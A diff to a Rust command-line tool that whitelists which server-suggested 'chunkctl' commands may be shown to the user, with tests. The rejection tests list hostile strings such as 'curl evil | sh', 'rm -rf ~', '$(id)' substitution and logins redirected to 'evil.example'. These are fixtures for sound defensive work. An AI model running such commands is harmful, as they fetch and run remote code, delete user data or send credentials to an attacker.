@@ -156,18 +156,43 @@ fn exit_of_status(status: u16) -> Exit {
     }
 }
 
-/// A server's hint is shown as a command to type only if it is one of our own: a hostile server must not be able to put
-/// any other command under our "run".
+/// A server's hint is shown as a command to type only if it is one of ours that looks, asks or signs in where one was going
+/// to: a hostile server must not be able to put anything under our "run" that judges, forgets a pinned key, writes a file of
+/// its choice, or sends a credential elsewhere.
 fn own_command(hint: &str) -> Option<String> {
-    let inner = match hint.split('`').nth(1) {
-        Some(quoted) => quoted,
-        None => hint,
+    // Names and ids only: nothing that a shell, a terminal or a path would make more of.
+    let plain = |word: &str| !word.is_empty() && word.bytes().all(|b| b.is_ascii_alphanumeric() || b"_-.".contains(&b));
+    let inner = hint.split('`').nth(1).unwrap_or(hint).trim_end_matches('.');
+    let words: Vec<&str> = inner.split(' ').collect();
+    let ["chunkctl", verb, rest @ ..] = words.as_slice() else {
+        return None;
     };
-    let plain = inner
-        .chars()
-        .all(|c| !c.is_control() && !matches!(c, ';' | '|' | '&' | '$' | '>' | '<' | '\\' | '\u{2028}' | '\u{2029}'));
-    (inner.starts_with("chunkctl ") && plain).then(|| inner.trim_end_matches('.').to_owned())
+    let (_, second) = VERBS_TO_SUGGEST.iter().find(|(known, _)| known == verb)?;
+    let arguments = match rest {
+        rest if second.is_empty() => rest,
+        [word, rest @ ..] if second.contains(word) => rest,
+        _ => return None,
+    };
+    let harmless = |word: &&str| plain(word) && (!word.starts_with('-') || OPTIONS_TO_SUGGEST.contains(word));
+    arguments.iter().all(harmless).then(|| inner.to_owned())
 }
+
+/// What a server may suggest; for commands of two words, the second word.
+const VERBS_TO_SUGGEST: &[(&str, &[&str])] = &[
+    ("audit", &["search", "show"]),
+    ("datasets", &[]),
+    ("describe", &[]),
+    ("doctor", &[]),
+    ("fetch", &[]),
+    ("login", &[]),
+    ("plan", &[]),
+    ("request", &["show"]),
+    ("requests", &[]),
+    ("sessions", &["list", "show"]),
+    ("whoami", &[]),
+];
+
+const OPTIONS_TO_SUGGEST: &[&str] = &["--all", "--mine", "--pending", "--request"];
 
 /// What an I/O error says without the operating system's number.
 pub(crate) fn io_words(error: &std::io::Error) -> String {
@@ -203,8 +228,59 @@ mod tests {
         };
         assert_eq!(hinted("run `chunkctl plan orders`."), Some("chunkctl plan orders".to_owned()));
         assert_eq!(hinted("chunkctl plan orders"), Some("chunkctl plan orders".to_owned()));
-        for bad in ["run `curl evil | sh`", "chunkctl x; rm -rf ~", "chunkctl $(id)", "rm -rf ~"] {
+        assert_eq!(
+            hinted("run `chunkctl fetch --request req_0123456789abcdef` once it is approved"),
+            Some("chunkctl fetch --request req_0123456789abcdef".to_owned())
+        );
+        for good in [
+            "chunkctl login",
+            "chunkctl requests --mine",
+            "chunkctl sessions list",
+            "chunkctl describe shop.orders",
+        ] {
+            assert_eq!(hinted(&format!("run `{good}`")).as_deref(), Some(good));
+        }
+        for bad in [
+            "run `curl evil | sh`",
+            "chunkctl x; rm -rf ~",
+            "chunkctl plan $(id)",
+            "chunkctl plan \"x\"",
+            "chunkctl plan ~",
+            "chunkctl plan *",
+            "chunkctl plan a\nb",
+            "chunkctl  plan",
+            "chunkctl",
+            "rm -rf ~",
+            "chunkctl login --broker https://evil.example --insecure-storage",
+            "chunkctl login --insecure-storage",
+            "chunkctl login --broker evil.example",
+            "chunkctl login --broker=evil.example",
+            "chunkctl --broker evil.example login",
+            "chunkctl datasets --ca-file evil.pem",
+            "chunkctl config unpin",
+            "chunkctl config set broker evil.example",
+            "chunkctl approve req_0123456789abcdef --reason ok",
+            "chunkctl fetch orders -o .bashrc --force",
+            "chunkctl sessions revoke ses_0123456789abcdef",
+            "chunkctl sessions",
+        ] {
             assert_eq!(hinted(bad), None, "{bad}");
+        }
+    }
+
+    #[test]
+    fn what_a_server_may_suggest_exists() {
+        use clap::CommandFactory as _;
+        let root = crate::args::Cli::command();
+        for (verb, second) in VERBS_TO_SUGGEST {
+            let command = root.find_subcommand(verb);
+            assert!(command.is_some(), "{verb}");
+            for word in *second {
+                assert!(
+                    command.is_some_and(|command| command.find_subcommand(word).is_some()),
+                    "{verb} {word}"
+                );
+            }
         }
     }
 }
